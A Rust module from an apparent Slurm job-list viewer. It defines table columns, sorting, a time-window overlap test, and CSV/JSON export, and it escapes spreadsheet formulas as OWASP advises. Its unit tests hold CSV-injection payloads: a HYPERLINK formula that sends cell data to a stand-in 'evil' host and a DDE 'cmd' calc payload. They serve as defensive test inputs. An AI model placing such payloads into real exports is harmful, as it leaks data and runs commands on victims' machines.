//! The job list's columns, window test, ordering and exports. Export writes exactly the rows and columns
//! the table shows, in the order shown; times are RFC 3339 UTC so a spreadsheet or script reads them.

use serde::{Deserialize, Serialize};
use slurmlens_wire as wire;

use crate::timefmt;

/// A column of the job list.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Column {
    JobId,
    Name,
    User,
    Account,
    Partition,
    State,
    Start,
    End,
    Elapsed,
    Nodes,
    Gpus,
    NodeList,
    ExitCode,
    /// Mean GPU utilisation from the archived report.
    GpuUtil,
    /// "Was the failure mine?" from the archived report.
    Blame,
}

impl Column {
    /// The table's columns, left to right.
    pub const ALL: [Column; 15] = [
        Self::JobId,
        Self::Name,
        Self::User,
        Self::Account,
        Self::Partition,
        Self::State,
        Self::Start,
        Self::End,
        Self::Elapsed,
        Self::Nodes,
        Self::Gpus,
        Self::NodeList,
        Self::ExitCode,
        Self::GpuUtil,
        Self::Blame,
    ];

    /// The CSV header and `sort=` word: the API's field name.
    pub fn key(self) -> &'static str {
        match self {
            Self::JobId => "job_id",
            Self::Name => "job_name",
            Self::User => "user",
            Self::Account => "account",
            Self::Partition => "partition",
            Self::State => "state",
            Self::Start => "start",
            Self::End => "end",
            Self::Elapsed => "elapsed",
            Self::Nodes => "alloc_nodes",
            Self::Gpus => "alloc_gpus",
            Self::NodeList => "node_list",
            Self::ExitCode => "exit_code",
            Self::GpuUtil => "mean_gpu_util",
            Self::Blame => "blame",
        }
    }

    /// The table header.
    pub fn title(self) -> &'static str {
        match self {
            Self::JobId => "Job",
            Self::Name => "Name",
            Self::User => "User",
            Self::Account => "Account",
            Self::Partition => "Partition",
            Self::State => "State",
            Self::Start => "Start",
            Self::End => "End",
            Self::Elapsed => "Elapsed",
            Self::Nodes => "Nodes",
            Self::Gpus => "GPUs",
            Self::NodeList => "NodeList",
            Self::ExitCode => "ExitCode",
            Self::GpuUtil => "GPU util %",
            Self::Blame => "Failure",
        }
    }

    /// The API's `sort=` for this column.
    pub fn sort(self) -> wire::JobSort {
        match self {
            Self::JobId => wire::JobSort::JobId,
            Self::Name => wire::JobSort::JobName,
            Self::User => wire::JobSort::User,
            Self::Account => wire::JobSort::Account,
            Self::Partition => wire::JobSort::Partition,
            Self::State => wire::JobSort::State,
            Self::Start => wire::JobSort::Start,
            Self::End => wire::JobSort::End,
            Self::Elapsed => wire::JobSort::Elapsed,
            Self::Nodes => wire::JobSort::AllocNodes,
            Self::Gpus => wire::JobSort::AllocGpus,
            Self::NodeList => wire::JobSort::NodeList,
            Self::ExitCode => wire::JobSort::ExitCode,
            Self::GpuUtil => wire::JobSort::MeanGpuUtil,
            Self::Blame => wire::JobSort::Blame,
        }
    }

    /// Parses a `sort=` word.
    pub fn parse(word: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|column| column.key() == word)
    }

    /// The cell as exported: the API's value, times in RFC 3339 UTC.
    pub fn text(self, job: &wire::Job) -> String {
        let time =
            |t: Option<chrono::DateTime<chrono::Utc>>| t.map(|t| timefmt::rfc3339(t.timestamp())).unwrap_or_default();
        match self {
            Self::JobId => job.job_id.clone(),
            Self::Name => job.job_name.clone(),
            Self::User => job.user.clone(),
            Self::Account => job.account.clone(),
            Self::Partition => job.partition.clone(),
            Self::State => job.state.clone(),
            Self::Start => time(job.start),
            Self::End => time(job.end),
            Self::Elapsed => job.elapsed.clone(),
            Self::Nodes => job.alloc_nodes.to_string(),
            Self::Gpus => job.alloc_gpus.to_string(),
            Self::NodeList => job.node_list.clone(),
            Self::ExitCode => job.exit_code.clone(),
            Self::GpuUtil => job.mean_gpu_util.map(|util| format!("{util:.1}")).unwrap_or_default(),
            Self::Blame => job.blame.map(|blame| blame.as_str().to_string()).unwrap_or_default(),
        }
    }

    /// Whether this column holds times (shown in the viewer's zone).
    pub fn is_time(self) -> bool {
        matches!(self, Self::Start | Self::End)
    }
}

/// The `sort=`/`desc=` order of a job list query.
pub fn order_of(get: &impl Fn(&str) -> Option<String>) -> Option<(Column, bool)> {
    let column = Column::parse(&get("sort")?)?;
    Some((column, get("desc").is_some_and(|value| value == "1" || value == "true")))
}

/// Sorts by `column` exactly as the API's sorted pages do ([`wire::sort_jobs`]): blank cells last
/// either way, ties by job id in the same direction.
pub fn sort(jobs: &mut [wire::Job], column: Column, descending: bool) {
    wire::sort_jobs(jobs, column.sort(), descending);
}

/// The rows shown for a loaded page of the keyset listing (the matches beyond the window): ordered.
pub fn shown(mut jobs: Vec<wire::Job>, order: Option<(Column, bool)>) -> Vec<wire::Job> {
    if let Some((column, descending)) = order {
        sort(&mut jobs, column, descending);
    }
    jobs
}

/// Whether `job`'s life overlaps `[start, end)` as the listing's window test reads it: submitted
/// before the end, not ended before the start (running and pending jobs have not ended).
pub fn overlaps(job: &wire::Job, (start, end): (i64, i64)) -> bool {
    job.submit.timestamp() < end && job.end.is_none_or(|ended| ended.timestamp() >= start)
}

/// Appends one CSV cell to `out`. A cell a spreadsheet would read as a formula (`=`, `+`, `-`, `@`,
/// tab or CR first; a job named `=HYPERLINK(…)`) gets a leading `'`, so it shows as the text it is
/// (OWASP's advice); plain numbers stay numbers. Shared by the page's export and the API's streamed one.
pub fn push_csv_field(out: &mut String, text: &str) {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']) && text.parse::<f64>().is_err();
    let quoted = text.contains([',', '"', '\n', '\r']);
    if quoted {
        out.push('"');
    }
    if formula {
        out.push('\'');
    }
    if quoted {
        out.push_str(&text.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(text);
    }
}

/// CSV of `jobs`, one header line of API field names, CRLF line ends (RFC 4180).
pub fn to_csv(jobs: &[wire::Job]) -> String {
    let mut out = Column::ALL.iter().map(|column| column.key()).collect::<Vec<_>>().join(",");
    out.push_str("\r\n");
    for job in jobs {
        for (index, column) in Column::ALL.iter().enumerate() {
            if index > 0 {
                out.push(',');
            }
            push_csv_field(&mut out, &column.text(job));
        }
        out.push_str("\r\n");
    }
    out
}

/// JSON of `jobs`: the API's own objects, in the order shown.
pub fn to_json(jobs: &[wire::Job]) -> String {
    serde_json::to_string_pretty(jobs).unwrap_or_else(|_| "[]".into())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn job(id: u32, user: &str, name: &str, gpus: u64) -> wire::Job {
        serde_json::from_value(serde_json::json!({
            "job_id": id.to_string(), "job_id_raw": id, "cluster": "c", "job_name": name, "user": user,
            "uid": 1, "gid": 1, "account": "ml", "partition": "gpu", "qos": "normal", "state": "COMPLETED",
            "exit_code": "0:0", "derived_exit_code": "0:0", "submit": "2026-11-30T12:00:00Z",
            "start": "2026-11-30T12:00:00Z", "elapsed": "00:01:00", "elapsed_raw": 60, "timelimit": "01:00:00",
            "node_list": "n1", "alloc_nodes": 1, "alloc_cpus": 2, "alloc_gpus": gpus, "alloc_tres": "cpu=2",
            "req_tres": "cpu=2", "req_mem": "1000M"
        }))
        .expect("valid job")
    }

    #[test]
    fn sorts_numbers_as_numbers_and_text_as_text() {
        let mut jobs = vec![job(10, "bob", "x", 8), job(9, "alice", "y", 16), job(100, "carol", "z", 2)];
        sort(&mut jobs, Column::JobId, false);
        assert_eq!(jobs.iter().map(|j| j.job_id_raw).collect::<Vec<_>>(), [9, 10, 100]);
        sort(&mut jobs, Column::Gpus, true);
        assert_eq!(jobs.iter().map(|j| j.alloc_gpus).collect::<Vec<_>>(), [16, 8, 2]);
        sort(&mut jobs, Column::User, false);
        assert_eq!(jobs[0].user, "alice");
    }

    #[test]
    fn every_column_sorts_by_its_own_api_field() {
        for column in Column::ALL {
            assert_eq!(column.sort().as_str(), column.key(), "{column:?}");
        }
    }

    #[test]
    fn orders_parse_from_sort_and_desc() {
        let get = |name: &str| match name {
            "sort" => Some("alloc_gpus".to_string()),
            "desc" => Some("1".to_string()),
            _ => None,
        };
        assert_eq!(order_of(&get), Some((Column::Gpus, true)));
        assert_eq!(order_of(&|_: &str| None), None);
    }

    #[test]
    fn a_job_overlaps_the_window_it_lived_in() {
        let mut finished = job(1, "alice", "train", 1);
        finished.end = Some("2026-11-30T13:00:00Z".parse().expect("a time"));
        let noon = 1_796_040_000;
        assert!(overlaps(&finished, (noon - 3600, noon + 1)));
        assert!(!overlaps(&finished, (noon + 7200, noon + 9000)), "ended before the window");
        assert!(!overlaps(&finished, (noon - 7200, noon - 3600)), "submitted after the window");
        assert!(overlaps(&job(2, "bob", "eval", 1), (noon + 86_400, noon + 90_000)), "still running");
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let csv = to_csv(&[job(1, "alice", "a,\"b\"", 1)]);
        let mut lines = csv.split("\r\n");
        assert_eq!(
            lines.next(),
            Some(
                "job_id,job_name,user,account,partition,state,start,end,elapsed,alloc_nodes,alloc_gpus,node_list,exit_code,mean_gpu_util,blame"
            )
        );
        assert_eq!(
            lines.next(),
            Some("1,\"a,\"\"b\"\"\",alice,ml,gpu,COMPLETED,2026-11-30T12:00:00Z,,00:01:00,1,1,n1,0:0,,")
        );
    }

    #[test]
    fn csv_cells_never_read_as_formulas() {
        for (name, cell) in [
            ("=HYPERLINK(\"https://evil/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"https://evil/?\"\"&A1,\"\"x\"\")\""),
            ("+1+1", "'+1+1"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("-5", "-5"),
            ("train-1", "train-1"),
        ] {
            let csv = to_csv(&[job(1, "alice", name, 1)]);
            let row = csv.split("\r\n").nth(1).expect("a row");
            assert!(row.starts_with(&format!("1,{cell},alice,")), "{name:?} → {row}");
        }
    }
}
